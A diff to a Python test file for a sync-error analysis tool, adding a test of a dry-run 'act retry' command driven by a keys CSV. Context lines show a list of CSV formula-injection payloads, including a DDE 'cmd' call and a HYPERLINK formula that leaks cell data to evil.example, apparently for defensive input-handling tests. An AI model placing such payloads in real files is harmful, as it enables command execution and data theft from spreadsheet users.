@@ -12,7 +12,7 @@ import pytest
 from syncanalysis import Workspace
 from syncanalysis.actions import execute, plan
 from syncanalysis.actions.planfile import PlanFileBackend
-from syncanalysis.analysis.records import Selection, count_records
+from syncanalysis.analysis.records import Selection, count_records, records
 from syncanalysis.sources import load_files
 
 FORMULAS = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)",
@@ -394,3 +394,21 @@ def test_a_stray_byte_after_the_first_megabyte_is_refused_naming_its_line(tmp_pa
 def test_selection_keys_that_are_not_guids_select_nothing_instead_of_failing(hostile):
     keys = (("E", "C", 18, "not-a-guid"), ("E", "C", 18, "{also not}"))
     assert count_records(hostile, Selection(keys=keys)) == 0
+
+
+def test_act_keys_file_with_environment_and_company_columns(tmp_path, capsys):
+    from syncanalysis.cli import main
+
+    ws_path = tmp_path / "w.duckdb"
+    with Workspace(ws_path) as ws:
+        load_files(ws, [_page_5333(tmp_path / "Coupled Data Synchronization Errors.csv", ["C1", "C2", "C3"])],
+                   environment="E", company="C", progress=False)
+        r = records(ws, limit=2)
+    keys = tmp_path / "keys.csv"
+    keys.write_text("environment,company,table_id,integration_id\n" + "".join(
+        f"E,C,{t},{i}\n" for t, i in zip(r["table_id"], r["integration_id"])), encoding="utf-8")
+    assert main(["act", "retry", "--workspace", str(ws_path), "--keys", str(keys), "--dry-run"]) == 0
+    assert "Dry run recorded" in capsys.readouterr().out
+    with Workspace(ws_path) as ws:
+        targets = ws.sql("SELECT count(*) AS n FROM action_targets")["n"][0]
+    assert targets == 2
